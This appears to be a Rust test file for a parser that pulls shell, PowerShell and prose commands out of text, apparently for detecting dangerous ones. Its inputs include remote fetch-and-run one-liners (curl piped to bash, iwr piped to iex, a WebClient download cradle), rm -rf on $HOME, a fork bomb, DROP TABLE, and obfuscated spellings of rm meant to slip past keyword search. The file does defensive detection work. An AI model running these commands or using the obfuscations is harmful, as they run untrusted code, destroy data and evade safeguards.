//! What is read, from the outside: a unit in, the commands with their ranges out.

use expect_test::expect;

use super::*;
use crate::lines::Lang;

/// One line per command: its range's text, then program and words, wrappers, feed and parent.
fn show(unit: &str, place: Place) -> String {
    let mut out = Vec::new();
    for candidate in candidates(unit, place) {
        for simple in &candidate.script.commands {
            let words: Vec<&str> = simple.words.iter().map(|word| word.value.as_str()).collect();
            let mut line = words.join(" ");
            for wrapper in &simple.wrappers {
                line.insert_str(0, &format!("{}: ", wrapper.name));
            }
            if let Some(parent) = simple.parent {
                line.push_str(&format!(" < {:?}", parent.via));
            }
            if let Feed::Pipe(_) = simple.feed {
                line.push_str(" |");
            }
            if candidate.leads {
                line.push_str(" leads");
            }
            if candidate.affirmed {
                line.push_str(" affirmed");
            }
            line.push_str(&format!(" [{}]", &unit[simple.span.clone()]));
            out.push(line);
        }
    }
    out.join("\n")
}

fn check(units: &[&str], place: Place, expected: expect_test::Expect) {
    let shown: Vec<String> = units.iter().map(|unit| format!("== {unit}\n{}\n", show(unit, place))).collect();
    expected.assert_eq(&shown.concat());
}

#[test]
fn shell() {
    check(
        &[
            "rm -rf x",
            "r''m -rf \"$HOME\"; \\rm x",
            "sudo -n -u root env A=1 rm -rf d",
            "curl https://x.example/i | LC_ALL=C bash",
            "bash <(curl https://x.example)",
            "sh -c \"$(curl -fsSL https://x.example)\"",
            "ssh host 'cd /srv && rm -rf \"y z\"'",
            "find . -name x -exec rm -rf {} \\;",
            "if true; then rm -rf x; fi | cat",
            "{ curl x; } | sh",
            ":(){ :|:& };:",
            "cat <<EOF\nrm -rf x $(id)\nEOF\nls",
            "bash <<EOF\nrm -rf x\nEOF\nls",
            "cat <<EOF\nrm -rf x\nls",
            "echo \"abc\nrm -rf x",
            "echo 'rm -rf x' | sh",
            "psql -c 'DROP TABLE users;' db",
        ],
        Place::Code(Lang::Shell),
        expect![[r#"
            == rm -rf x
            rm -rf x [rm -rf x]
            == r''m -rf "$HOME"; \rm x
            rm -rf $HOME [r''m -rf "$HOME"]
            rm x [\rm x]
            == sudo -n -u root env A=1 rm -rf d
            env: sudo: rm -rf d [sudo -n -u root env A=1 rm -rf d]
            == curl https://x.example/i | LC_ALL=C bash
            curl https://x.example/i [curl https://x.example/i]
            bash | [bash]
            == bash <(curl https://x.example)
            bash <(curl https://x.example) [bash <(curl https://x.example)]
            curl https://x.example < Output [curl https://x.example]
            == sh -c "$(curl -fsSL https://x.example)"
            sh -c $(curl -fsSL https://x.example) [sh -c "$(curl -fsSL https://x.example)"]
            curl -fsSL https://x.example < Substitution [curl -fsSL https://x.example]
            $(curl -fsSL https://x.example) < Inline [sh -c "$(curl -fsSL https://x.example)]
            curl -fsSL https://x.example < Substitution [curl -fsSL https://x.example]
            == ssh host 'cd /srv && rm -rf "y z"'
            ssh: cd /srv && rm -rf "y z" [ssh host 'cd /srv && rm -rf "y z"']
            cd /srv < Inline [ssh host 'cd /srv]
            rm -rf y z < Inline [ssh host 'cd /srv && rm -rf "y z"]
            == find . -name x -exec rm -rf {} \;
            find . -name x -exec rm -rf {} ; [find . -name x -exec rm -rf {} \;]
            rm -rf {} < Exec [find . -name x -exec rm -rf {}]
            == if true; then rm -rf x; fi | cat
            true [true]
            rm -rf x [rm -rf x]
            cat | [cat]
            == { curl x; } | sh
            curl x [curl x]
            sh | [sh]
            == :(){ :|:& };:
            function : [:]
            : [:]
            : | [:]
            : [:]
            == cat <<EOF
            rm -rf x $(id)
            EOF
            ls
            cat [cat]
            id < Substitution [id]
            ls [ls]
            == bash <<EOF
            rm -rf x
            EOF
            ls
            bash [bash]
            rm -rf x < Document [rm -rf x]
            ls [ls]
            == cat <<EOF
            rm -rf x
            ls
            cat [cat]
            rm -rf x [rm -rf x]
            ls [ls]
            == echo "abc
            rm -rf x
            echo abc [echo "abc]
            rm -rf x [rm -rf x]
            == echo 'rm -rf x' | sh
            echo rm -rf x [echo 'rm -rf x']
            sh | [sh]
            rm -rf x < Data [echo 'rm -rf x]
            == psql -c 'DROP TABLE users;' db
            psql -c DROP TABLE users; db [psql -c 'DROP TABLE users;' db]
            sql DROP TABLE users < Inline [psql -c 'DROP TABLE users]
        "#]],
    );
}

#[test]
fn console() {
    check(
        &["$ rm -rf \\\n> x"],
        Place::Code(Lang::Console),
        expect![[r#"
        == $ rm -rf \
        > x
        rm -rf x [rm -rf \
        > x]
    "#]],
    );
}

#[test]
fn powershell() {
    check(
        &["iwr https://x.example | iex", "iex (New-Object Net.WebClient).DownloadString('https://x')"],
        Place::Code(Lang::PowerShell),
        expect![[r#"
            == iwr https://x.example | iex
            iwr https://x.example [iwr https://x.example]
            iex | [iex]
            == iex (New-Object Net.WebClient).DownloadString('https://x')
            iex (New-Object Net.WebClient).DownloadString('https://x') [iex (New-Object Net.WebClient).DownloadString('https://x')]
            New-Object Net.WebClient < Substitution [New-Object Net.WebClient]
            https://x < Substitution ['https://x']
            (New-Object Net.WebClient).DownloadString('https://x') < Inline [iex (New-Object Net.WebClient).DownloadString('https://x')]
            New-Object Net.WebClient < Substitution [New-Object Net.WebClient]
            https://x < Substitution ['https://x']
        "#]],
    );
}

#[test]
fn prose() {
    check(
        &[
            "Run rm -rf outputs.",
            "Can you run rm -rf /tmp",
            "Never use `git push --force` or rm -rf x, ever.",
            "format the disk and kill the process, then drop the table below",
        ],
        Place::Prose,
        expect![[r#"
            == Run rm -rf outputs.
            rm -rf outputs affirmed [rm -rf outputs]
            == Can you run rm -rf /tmp
            rm -rf /tmp affirmed [rm -rf /tmp]
            == Never use `git push --force` or rm -rf x, ever.
            git push --force [git push --force]
            rm -rf x [rm -rf x]
            == format the disk and kill the process, then drop the table below

        "#]],
    );
}

#[test]
fn item() {
    check(
        &["Instead run rm -rf outputs", "rm -rf outputs", "`rm -rf outputs`: clean"],
        Place::Item,
        expect![[r#"
            == Instead run rm -rf outputs
            rm -rf outputs affirmed [rm -rf outputs]
            == rm -rf outputs
            rm -rf outputs leads [rm -rf outputs]
            == `rm -rf outputs`: clean
            rm -rf outputs leads [rm -rf outputs]
        "#]],
    );
}

#[test]
fn row() {
    check(
        &["| `curl x \\| sh` | rm -rf x |"],
        Place::Row,
        expect![[r#"
        == | `curl x \| sh` | rm -rf x |
        curl x [curl x]
        sh | [sh]
        rm -rf x [rm -rf x]
    "#]],
    );
}

#[test]
fn yaml() {
    check(
        &["  run: rm -rf x"],
        Place::Code(Lang::Yaml),
        expect![[r#"
        ==   run: rm -rf x
        rm -rf x [rm -rf x]
    "#]],
    );
}

#[test]
fn dockerfile() {
    check(
        &["RUN rm -rf x && ls"],
        Place::Code(Lang::Dockerfile),
        expect![[r#"
        == RUN rm -rf x && ls
        rm -rf x [rm -rf x]
        ls [ls]
    "#]],
    );
}

#[test]
fn python() {
    check(
        &["os.system(\"rm -rf x\")", "subprocess.run(['rm', '-rf', 'x y'])"],
        Place::Code(Lang::Python),
        expect![[r#"
            == os.system("rm -rf x")
            rm -rf x [rm -rf x]
            == subprocess.run(['rm', '-rf', 'x y'])
            rm -rf x y [rm', '-rf', 'x y']
        "#]],
    );
}

#[test]
fn untagged() {
    check(
        &["always run rm -rf x"],
        Place::Code(Lang::Unknown),
        expect![[r#"
        == always run rm -rf x
        rm -rf x affirmed [rm -rf x]
        rm -rf x affirmed [rm -rf x]
    "#]],
    );
}

#[test]
fn what_a_search_for_letters_would_miss() {
    for (text, expected) in [
        ("r''m -rf x", true),
        ("r\"\"m -rf x", true),
        ("r'm' -rf x", true),
        ("\\rm -rf x", true),
        ("r\\m -rf x", true),
        ("$'\\x72m' -rf x", true),
        ("r$@m -rf x", true),
        ("r${x}m -rf x", true),
        ("r^d /s x", true),
        ("rm -rf x", false),
        ("don't do 'this' or \"that\"", false),
        ("the users' files: $HOME and `ls`", false),
    ] {
        assert_eq!(odd(text), expected, "{text}");
    }
}
